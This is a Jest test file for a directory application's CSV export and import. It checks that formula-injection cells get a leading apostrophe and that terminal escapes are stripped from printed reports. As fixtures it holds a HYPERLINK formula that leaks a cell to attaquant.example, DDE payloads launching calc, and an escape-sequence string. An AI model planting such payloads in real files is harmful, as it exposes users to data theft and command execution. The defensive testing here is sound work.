// Cells someone else typed must not run as spreadsheet formulas in the CSVs we write (OWASP "CSV
// Injection"), nor drive the operator's terminal when an import prints them. Through the scripts as an
// operator runs them (`npm run export`, `npm run import -- --report`), on a temporary DATA_DIR.
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { protectCell, readProtectedCell } from '../api/csv';
import { TEMPLATE_COLUMNS } from '../api/directory/imports';
import { runScript, scratchDirs } from './helpers/cli';
import { siret } from './helpers/fixtures';
import { ok, startTestServer } from './helpers/server';
import { waitFor } from './helpers/wait';

jest.setTimeout(120_000);

const workDir = scratchDirs();

type Row = Partial<Record<(typeof TEMPLATE_COLUMNS)[number], string>>;
const row = (i: number, overrides: Row): Row => ({
  name: `Structure ${i}`,
  siret: siret(7_300_000_000_000 + i),
  legalForm: 'ASSOCIATION',
  description: `Entretien des espaces verts, structure numéro ${i}.`,
  services: 'Tonte',
  communeCode: '76540',
  ...overrides,
});
const template = (file: string, rows: Row[]) => {
  fs.writeFileSync(file, stringify([[...TEMPLATE_COLUMNS], ...rows.map((r) => TEMPLATE_COLUMNS.map((c) => r[c] ?? ''))]));
  return file;
};

const HYPERLINK = '=HYPERLINK("https://attaquant.example/?d="&M3;"Cliquez ici")';
const hostile = [
  row(1, { name: HYPERLINK }),
  row(2, { description: '@SUM(1+1)*cmd|\' /C calc\'!A0 : entretien des espaces verts.' }),
  row(3, { services: '-2+3+cmd|\' /C calc\'!A0|Tonte' }),
  // A value that itself starts with an apostrophe then "=" is written in our files with one more.
  row(4, { name: "''=déjà une apostrophe", description: '+33 2 35 00 00 00, appelez-nous.' }),
];

describe('CSV cells that would run as formulas', () => {
  test('are written with a leading apostrophe by the export, and read back whole: export → import → export is exact', async () => {
    const dir = workDir();
    const one = path.join(dir, 'one');
    const imported = await runScript('import', ['--format', 'csv', template(path.join(dir, 'hostile.csv'), hostile)], { DATA_DIR: one });
    expect(imported.stdout).toMatch(/créé\s+4/);

    const first = path.join(dir, 'export-1.csv');
    expect((await runScript('export', ['--out', first], { DATA_DIR: one })).code).toBe(0);
    const text = fs.readFileSync(first, 'utf8');
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    const bySiret = (i: number) => rows.find((r) => r.siret === hostile[i - 1]!.siret)!;
    expect(bySiret(1).name).toBe(`'${HYPERLINK}`);
    expect(bySiret(2).description).toBe(`'${hostile[1]!.description}`);
    expect(bySiret(3).services).toBe(`'${hostile[2]!.services}`);
    expect(bySiret(4)).toMatchObject({ name: `''=déjà une apostrophe`, description: `'${hostile[3]!.description}` });
    // No cell of the file starts a formula.
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const two = path.join(dir, 'two');
    expect((await runScript('import', ['--format', 'csv', first], { DATA_DIR: two })).stdout).toMatch(/créé\s+4/);
    const again = await runScript('export', [], { DATA_DIR: two });
    expect(again.stdout).toBe(text);
    // Stored as they were typed, without the apostrophe.
    const names = (parse(again.stdout, { bom: true, columns: true }) as Record<string, string>[]).map((r) => readProtectedCell(r.name!));
    expect(names).toEqual(expect.arrayContaining([HYPERLINK, "'=déjà une apostrophe"]));
  });

  test("the import's --report protects its cells, and the lines it prints carry no terminal escapes", async () => {
    const dir = workDir();
    const escapes = '\u001b]8;;https://attaquant.example\u0007Cliquez\u001b]8;;\u0007\u001b[2J\rStructure';
    const file = template(path.join(dir, 'refus.csv'), [row(5, { name: '=1+1', legalForm: 'SARL' }), row(6, { name: escapes, legalForm: 'SARL' })]);
    const report = path.join(dir, 'rapport.csv');
    const result = await runScript('import', ['--format', 'csv', '--report', report, file], { DATA_DIR: path.join(dir, 'data') });
    expect(result.code).toBe(0);
    const refused = parse(fs.readFileSync(report), { bom: true, columns: true }) as Record<string, string>[];
    expect(refused.map((r) => r.nom)).toEqual(["'=1+1", escapes]);
    expect(result.stdout).toMatch(/ligne \d+, SIRET \d+ \(\]8;;https:\/\/attaquant\.exampleCliquez\]8;;\[2JStructure\) : « legalForm »/);
    expect(result.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  test("the console's refusal report protects its cells too", async () => {
    const t = await startTestServer();
    try {
      const officer = (await t.userWithToken('OFFICER')).token;
      const text = stringify([[...TEMPLATE_COLUMNS], ...[row(7, { name: HYPERLINK, legalForm: 'SARL' })].map((r) => TEMPLATE_COLUMNS.map((c) => r[c] ?? ''))]);
      const upload = `mutation($f: String!, $c: String!) { uploadImportChunk(uploadId: null, fileName: $f, chunk: $c) { id } }`;
      const uploadId = (await ok(t.gql(upload, { f: 'structures.csv', c: text }, officer))).uploadImportChunk.id;
      const run = `mutation($u: ID!) { runImport(uploadId: $u, format: CSV, dryRun: true) { id } }`;
      const id = (await ok(t.gql(run, { u: uploadId }, officer))).runImport.id;
      const job = await waitFor('the dry run', async () => {
        const j = (await ok(t.gql(`query($id: ID!) { importJob(id: $id) { state reportCsv } }`, { id }, officer))).importJob;
        return j.state !== 'RUNNING' && j;
      });
      const refused = parse(job.reportCsv, { bom: true, columns: true }) as Record<string, string>[];
      expect(refused.map((r) => r.nom)).toEqual([`'${HYPERLINK}`]);
    } finally {
      await t.destroy();
    }
  });

  test('numbers are not formulas: a plain number stays as it is, and every protected value reads back exactly', () => {
    for (const n of ['-5', '+3', '-12,50', '-0.25', '1.5e3']) expect(protectCell(n)).toBe(n);
    for (const value of ['-2+3', '-5 €', '=1', '@a', '\tx', '\rx', "'=x", "''-5", "'5", "'", '']) {
      expect(readProtectedCell(protectCell(value))).toBe(value);
      expect(protectCell(value)).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
